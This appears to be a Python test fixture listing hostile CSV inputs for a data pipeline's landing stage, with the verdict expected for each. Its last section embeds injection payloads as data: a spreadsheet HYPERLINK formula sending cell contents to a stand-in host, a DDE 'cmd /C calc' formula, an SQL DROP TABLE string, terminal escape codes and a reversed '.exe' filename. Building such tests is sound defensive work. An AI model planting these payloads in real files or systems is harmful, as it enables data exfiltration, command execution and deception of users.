"""Hostile files, made here, and the verdict that is right for each: how many records are taken, or why none is.

The source is ``FILMS``: show_id and title are required, note and hours are not. Tricks of workbooks are in
``test_xlsx``, what the landing folder makes of odd names and links in ``landing/test_deliveries``.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from netflix_dagster.landing.sources import Source, SourceColumn

FILMS = Source(
    name="films",
    feed="films",
    form="whole",
    description="Films",
    columns={
        "show_id": SourceColumn(description="Number", aliases=("id",)),
        "title": SourceColumn(description="Name", aliases=("show_title",)),
        "note": SourceColumn(description="Remark", required=False),
        "hours": SourceColumn(description="Hours", required=False),
    },
)
TABBED = FILMS.model_copy(update={"format": "tsv"})
HEAD = b"show_id,title,note\n"
TWO = HEAD + b"1,A,x\n2,B,y\n"
BOM = b"\xef\xbb\xbf"


@dataclass(frozen=True)
class Hostile:
    """A file. ``taken`` records of it are right; a ``rule`` means that the delivery is refused whole, for a reason
    that begins with ``says`` and with a hint that has ``hint`` in it. ``kept`` is the first record taken, exactly."""

    name: str
    make: Callable[[], bytes]
    taken: int = 0
    rule: str | None = None
    says: str = ""
    hint: str = ""
    record: int | None = None
    kept: tuple[str | None, ...] | None = None
    source: Source = FILMS

    @property
    def data(self) -> bytes:
        return self.make()


def text(encoding: str) -> bytes:
    return "show_id,title,note\n1,Amélie,x\n".encode(encoding)


def zipped() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("films.csv", TWO)
    return target.getvalue()


def bulk() -> bytes:
    return HEAD + b"".join(b"%d,Film %d,%s\n" % (n, n, (b"Movie", b"TV Show")[n % 2]) for n in range(200))


def taken(name: str, data: bytes | str, records: int, *kept: str | None, source: Source = FILMS) -> Hostile:
    made = data.encode() if isinstance(data, str) else data
    first = (*kept, *[None] * (4 - len(kept))) if kept else None
    return Hostile(name, lambda: made, records, kept=first, source=source)


def whole(name: str, data: bytes | str, rule: str, says: str, hint: str = "", source: Source = FILMS) -> Hostile:
    """A file of which nothing can be taken."""
    made = data.encode() if isinstance(data, str) else data
    return Hostile(name, lambda: made, rule=rule, says=says, hint=hint, source=source)


def record(name: str, data: bytes | str, rule: str, number: int, says: str, hint: str = "", good: int = 0) -> Hostile:
    """A file with a record that is refused, and ``good`` others; it is held back all the same."""
    made = data.encode() if isinstance(data, str) else data
    return Hostile(name, lambda: made, good, rule, f"record {number} {says}", hint, number)


UTF8, LAND = "save it as UTF-8", "land it again"
ENCODINGS = [
    whole("UTF-16 LE with a mark", b"\xff\xfe" + text("utf-16-le"), "encoding", "the file is UTF-16, not UTF-8", UTF8),
    whole("UTF-16 BE with a mark", b"\xfe\xff" + text("utf-16-be"), "encoding", "the file is UTF-16, not UTF-8", UTF8),
    whole("UTF-16 LE", text("utf-16-le"), "encoding", "the file is UTF-16 without a byte order mark", UTF8),
    whole("UTF-16 BE", text("utf-16-be"), "encoding", "the file is UTF-16 without a byte order mark", UTF8),
    whole("UTF-32 with a mark", text("utf-32"), "encoding", "the file is UTF-32, not UTF-8", UTF8),
    whole("UTF-32 BE", text("utf-32-be"), "encoding", "the file is UTF-32 without a byte order mark", UTF8),
    whole("latin-1", text("latin-1"), "encoding", "the file is not UTF-8: byte 0xe9 in line 2", "Windows-1252"),
    whole("Windows quotes", HEAD + b"1,\x93A\x94,x\n", "encoding", "the file is not UTF-8: byte 0x93", "Windows-1252"),
    whole("Shift-JIS", "show_id,title\n1,映画\n".encode("shift-jis"), "encoding", "the file is not UTF-8: byte 0x89"),
    whole("EBCDIC", TWO.decode().encode("cp037"), "encoding", "the file is not UTF-8: byte 0xa2 in line 1"),
    whole(
        "invalid continuation", HEAD + b"1,\xe2\x28\xa1,x\n", "encoding", "the file is not UTF-8: byte 0xe2 in line 2"
    ),
    whole(
        "overlong slash", HEAD + b"1,\xc0\xaf,x\n", "encoding", "the file is not UTF-8: byte 0xc0 in line 2", "CESU-8"
    ),
    whole(
        "surrogates", HEAD + b"1,\xed\xa0\xbd\xed\xb8\x80,x\n", "encoding", "the file is not UTF-8: byte 0xed", "CESU-8"
    ),
    whole("beyond Unicode", HEAD + b"1,\xf8\x88\x80\x80\x80,x\n", "encoding", "the file is not UTF-8: byte 0xf8"),
    whole("NUL in a record", TWO + b"3,\0,z\n", "encoding", "there is a NUL byte in line 4", "damaged on its way"),
    whole("NULs at the end", TWO + b"\0" * 512, "encoding", "there is a NUL byte in line 4", "damaged on its way"),
    taken("one mark", BOM + TWO, 2, "1", "A", "x"),
    taken("two marks", BOM + BOM + TWO, 2, "1", "A", "x"),
    taken("a mark before quotes", BOM + b'"show_id","title"\n"1","A"\n', 1, "1", "A"),
    taken("a mark inside quotes", b'"\xef\xbb\xbfshow_id",title\n1,A\n', 1, "1", "A"),
    taken("a mark in the middle", HEAD + b"1,A,x\n" + BOM + b"2,B,y\n", 2, "1", "A", "x"),
    taken("UTF-7 is only odd text", text("utf-7"), 1, "1", "Am+AOk-lie", "x"),
    taken("mojibake", "show_id,title\n1,AmÃ©lie\n", 1, "1", "AmÃ©lie"),
    taken("replacement characters", "show_id,title\n1,Am\ufffdlie\n", 1, "1", "Am\ufffdlie"),
]

MISPLACED = "a quote inside a quoted value is written twice"
QUOTES = [
    record("unclosed", HEAD + b'1,A,x\n2,"B,y\n3,C,z\n', "complete_file", 2, "", good=1),
    record("unclosed from the first", HEAD + b'1,"A,x\n' + b"2,B,y\n" * 500, "complete_file", 1, ""),
    record("stray after", HEAD + b'1,"A"b,x\n2,B,y\n', "quotes", 1, "(line 2) has misplaced", MISPLACED, good=1),
    record("backslash", HEAD + b'1,"A \\"B\\", C",x\n', "quotes", 1, "(line 2) has misplaced", MISPLACED),
    record("single quotes", HEAD + b"1,'A, B',x\n", "fields", 1, "(line 2) has 4 fields", "needs quotes"),
    record("typographic quotes", HEAD + "1,“A, B”,x\n".encode(), "fields", 1, "(line 2) has 4 fields", "needs quotes"),
    record("a space before a quote", HEAD + b'1, "A, B",x\n', "fields", 1, "(line 2) has 4 fields", "needs quotes"),
    taken("doubled", HEAD + b'1,"The ""Best"", they said",x\n', 1, "1", 'The "Best", they said', "x"),
    taken("inside an unquoted value", HEAD + b'1,6" Under,x"\n', 1, "1", '6" Under', 'x"'),
    taken("only quotes", HEAD + b'"""""","""",""""""\n', 1, '""', '"', '""'),
    taken("all line breaks at once", HEAD + b'1,"A\r\nB\nC\rD",x\r\n2,B,y\r3,C,z\n', 3, "1", "A\r\nB\nC\rD", "x"),
    taken("quoted blank lines", HEAD + b'1,"\n\n\n",x\n', 1, "1", "\n\n\n", "x"),
    whole("nothing but a quote", b'"', "header", "the header cannot be read: unexpected end of data", "begins with"),
    whole("a header that never closes", b'show_id,"title,note\n1,A,x\n', "header", "the header cannot be read"),
]

CUT = "cut short"
SHAPES = [
    record("short", TWO + b"3,C\n", "fields", 3, "(line 4) has 2 fields where the header has 3", CUT, good=2),
    record("long", TWO + b"3,C,z,w\n", "fields", 3, "(line 4) has 4 fields where the header has 3", good=2),
    record("a trailing separator", HEAD + b"1,A,x,\n2,B,y\n", "fields", 1, "(line 2) has 4 fields", good=1),
    record("a line of blanks", TWO + b"   \t\n", "fields", 3, "(line 4) has 1 field", "blanks", good=2),
    record(
        "the end-of-file mark of DOS", TWO + b"\x1a", "fields", 3, "(line 4) has 1 field", "end-of-file mark", good=2
    ),
    record("another separator later", TWO + b"3;C;z\n", "fields", 3, "(line 4) has 1 field", good=2),
    record(
        "conflict marks", HEAD + b"<<<<<<< HEAD\n1,A,x\n=======\n1,B,x\n", "fields", 1, "(line 2) has 1 field", good=2
    ),
    taken("a trailing separator in every line", b"show_id,title,note,\n1,A,x,\n", 1, "1", "A", "x"),
    taken("blank lines at the end", TWO + b"\n\r\n\r\n\n", 2, "1", "A", "x"),
    taken("line breaks of two CR", TWO.replace(b"\n", b"\r\r\n"), 2, "1", "A", "x"),
    taken("records of nothing", TWO + b",,\n", 3, "1", "A", "x"),
    taken("a field of 10 MB", HEAD + b"1," + b"a" * 10_000_000 + b",x\n", 1, "1", "a" * 10_000_000, "x"),
    taken(
        "5,000 columns",
        ",".join([*("show_id", "title"), *(f"c{n}" for n in range(4998))]) + "\n" + "7," * 4999 + "7\n",
        1,
        "7",
        "7",
    ),
    taken("5,000 columns without a name", b"show_id,title" + b"," * 4998 + b"\n1,A" + b"," * 4998 + b"\n", 1, "1", "A"),
    taken("100,000 records", HEAD + b"1,A,x\n" * 100_000, 100_000, "1", "A", "x"),
    taken("a column name of 1 MB", b"show_id,title," + b"n" * 1_000_000 + b"\n1,A,\n", 1, "1", "A"),
    whole(
        "a line of 10 MB",
        b"a" * 10_000_000,
        "columns",
        "missing columns: show_id, title (the header has: aaa",
        "no header",
    ),
]

ALIAS, ABOVE = "alias in sources.yaml", "remove what is above it"
HEADERS = [
    whole(
        "a column twice", b"show_id,title,title\n1,A,B\n", "header", "the columns 'title' and 'title' are both 'title'"
    ),
    whole(
        "an alias twice", b"id,show_id,title\n1,2,A\n", "header", "the columns 'id' and 'show_id' are both 'show_id'"
    ),
    whole("a header alone", HEAD, "not_empty", "there is a header and no record", "ask for"),
    whole("a header without a line break", HEAD.strip(), "not_empty", "there is a header and no record", "ask for"),
    whole(
        "no header", b"1,A,x\n2,B,y\n", "columns", "missing columns: show_id, title (the header has: 1, A, x)", ALIAS
    ),
    whole("half a header", b"show_id,tit", "columns", "missing columns: title (the header has: show_id, tit)", ALIAS),
    whole(
        "letters of another script",
        "sh\u043ew_id,title\n1,A\n",
        "columns",
        "missing columns: show_id",
        "U+043E CYRILLIC SMALL LETTER O",
    ),
    whole("a line of Excel above", b"sep=,\n" + TWO, "columns", "missing columns", f"stand in line 2: {ABOVE}"),
    whole("comments above", b"# made on Monday\n#\n" + TWO, "columns", "missing columns", f"stand in line 3: {ABOVE}"),
    whole("blank lines above", b"\n\n" + TWO, "columns", "missing columns", f"stand in line 3: {ABOVE}"),
    record(
        "the header again", TWO + HEAD + b"3,C,z\n", "header", 3, "(line 4) is the header again", "by itself", good=3
    ),
    record("the header twice", HEAD + TWO, "header", 1, "(line 2) is the header again", good=2),
    record("two files joined", BOM + TWO + BOM + TWO, "header", 3, "(line 4) is the header again", good=4),
    taken("another order", b"note,title,show_id\nx,A,1\n", 1, "1", "A", "x"),
    taken("capitals, spaces and dashes", b" SHOW-ID ,Show Title,NOTE\n1,A,x\n", 1, "1", "A", "x"),
    taken("invisible letters", "show\u200b_id,\u202etitle\u202c,note\u00a0\n1,A,x\n", 1, "1", "A", "x"),
    taken("a name that is empty", b"show_id,title,,note\n1,A,q,x\n", 1, "1", "A", "x"),
    taken(
        "names that bronze adds",
        b"show_id,title,delivery_date,rescued_data,run_id\n1,A,1999-01-01,{},me\n",
        1,
        "1",
        "A",
    ),
    taken("a line break in a name", b'"show_id",title,"no\nte"\n1,A,x\n', 1, "1", "A"),
]

SEPARATORS = [
    whole(
        f"separated by {mark!r}",
        TWO.replace(b",", mark.encode()),
        "columns",
        "missing columns",
        f"separated by {mark!r}, not ','",
    )
    for mark in (";", "|", "\t", "^", "\x1f")
] + [
    whole("commas in a tsv", TWO, "columns", "missing columns", "separated by ',', not '\\t'", TABBED),
    whole(
        "lines of NEL",
        HEAD.decode().replace("\n", "\x85") + "1,A,x\x85",
        "not_empty",
        "there is a header and no record",
    ),
    taken("commas in the values of a tsv", b"show_id\ttitle\n1\tA, B\n", 1, "1", "A, B", source=TABBED),
]

UNPACK, EXPORT, FETCH = "unpack it", "export the table", "fetch the file again"
OTHERS = [
    whole("gzip", gzip.compress(TWO), "another_format", "the file is packed with gzip", UNPACK),
    whole("bzip2", bz2.compress(TWO), "another_format", "the file is packed with bzip2", UNPACK),
    whole("xz", lzma.compress(TWO), "another_format", "the file is packed with xz", UNPACK),
    whole("zip", zipped(), "another_format", "the file is a zip archive", UNPACK),
    whole(
        "Parquet", b"PAR1\x15\x04\x15" + b"\0" * 20 + b"PAR1", "another_format", "the file is a Parquet file", EXPORT
    ),
    whole("PDF", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "another_format", "the file is a PDF document", "as text"),
    whole("a picture", b"\x89PNG\r\n\x1a\n\0\0", "another_format", "the file is a picture", FETCH),
    whole("SQLite", b"SQLite format 3\0" + b"\x10" * 50, "another_format", "the file is an SQLite database", EXPORT),
    whole(
        "old Excel",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99,
        "another_format",
        "the file is a workbook of",
        EXPORT,
    ),
    whole(
        "Git LFS",
        b"version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12\n",
        "another_format",
        "the file is a pointer of Git LFS",
        "git lfs pull",
    ),
    whole("a page", b"<!DOCTYPE html><title>Moved</title>", "not_a_page", "the file is an HTML page (Moved)", FETCH),
    whole("a page under a mark", BOM + b"\n<html><body>no</body>", "not_a_page", "the file is an HTML page", FETCH),
    whole(
        "XML of a store",
        b'<?xml version="1.0"?><Error><Code>BlobNotFound</Code></Error>',
        "not_a_page",
        "the file is XML (BlobNotFound)",
        FETCH,
    ),
    whole(
        "a JSON error", b'{"error": "not found"}', "another_format", 'the file is JSON ({"error": "not found"})', FETCH
    ),
    whole(
        "a JSON list", b'[\n  {"show_id": 1},\n  {"show_id": 2}\n]\n', "another_format", "the file is JSON ([ {", FETCH
    ),
    whole(
        "JSON lines",
        b'{"show_id": 1, "title": "A"}\n{"show_id": 2, "title": "B"}\n',
        "another_format",
        "the file is JSON",
        FETCH,
    ),
    whole("JSON, deep", b"[" * 100_000, "columns", "missing columns", FETCH),
    whole("null", b"null\n", "not_empty", "the body is 'null', there is no data", FETCH),
    whole("nothing", b"", "not_empty", "the file is empty", "ask for"),
    whole("blanks", b" \r\n\t\n", "not_empty", "the file is empty", "ask for"),
    whole(
        "words of a server", b"404: Not Found", "columns", "missing columns: show_id, title (the header has: 404", FETCH
    ),
    taken("a title that begins as a page", HEAD + b"1,<html>,x\n", 1, "1", "<html>", "x"),
]

CUTS = [
    record("in a record", bulk()[:-9], "fields", 200, "(line 201) has 2 fields", CUT, good=199),
    record("in a quote", bulk() + b'200,"Fi', "complete_file", 201, "", good=200),
    whole(
        "in a character",
        bulk() + "200,Amé".encode()[:-1],
        "complete_file",
        "the file ends inside a character, in line 202",
        "ask for",
    ),
    Hostile(
        "in the last value",
        lambda: bulk()[:-3],
        199,
        "complete_file",
        "the file has no final line break and ends in",
        "ask for it again",
        200,
    ),
]

FORMULAS = ('=HYPERLINK("http://x/?"&A1,"go")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1", "\t=1+1")
VALUES = [
    *(
        taken(
            f"formula {formula[:9].strip()}",
            HEAD + b'1,"%s",x\n' % formula.replace('"', '""').encode(),
            1,
            "1",
            formula,
            "x",
        )
        for formula in FORMULAS
    ),
    taken(
        "line separators of Unicode",
        "show_id,title\n1,A\u2028B\u2029C\x85D\x0bE\x0cF\x1cG\n",
        1,
        "1",
        "A\u2028B\u2029C\x85D\x0bE\x0cF\x1cG",
    ),
    taken("turned around", "show_id,title\n1,\u202egnp.exe\u2066\n", 1, "1", "\u202egnp.exe\u2066"),
    taken("of no width", "show_id,title\n1,A\u200bB\u200d\u2060C\n", 1, "1", "A\u200bB\u200d\u2060C"),
    taken("a homoglyph", "show_id,title\n1,\u0410lien\n", 1, "1", "\u0410lien"),
    taken("two forms of one letter", "show_id,title\n1,Ame\u0301lie\n2,Am\u00e9lie\n", 2, "1", "Ame\u0301lie"),
    taken("5,000 accents", "show_id,title\n1,Z" + "\u0301" * 5000 + "\n", 1, "1", "Z" + "\u0301" * 5000),
    taken("no characters", "show_id,title\n1,\ufffe\uffff\U0010ffff\n", 1, "1", "\ufffe\uffff\U0010ffff"),
    taken("orders to a terminal", "show_id,title\n1,\x1b[2J\x07\x08\x7f\n", 1, "1", "\x1b[2J\x07\x08\x7f"),
    taken("SQL", "show_id,title\n1,'; DROP TABLE films; --\n", 1, "1", "'; DROP TABLE films; --"),
    taken("words for nothing", "show_id,title,note\nnull,NaN,N/A\n", 1, "null", "NaN", "N/A"),
    taken(
        "numbers of all sorts",
        'show_id,title,hours\n-1,A,"1,234"\n1e3,B,1.2E+9\ninf,C,NaN\n',
        3,
        "-1",
        "A",
        None,
        "1,234",
    ),
]

CORPUS = [*ENCODINGS, *QUOTES, *SHAPES, *HEADERS, *SEPARATORS, *OTHERS, *CUTS, *VALUES]
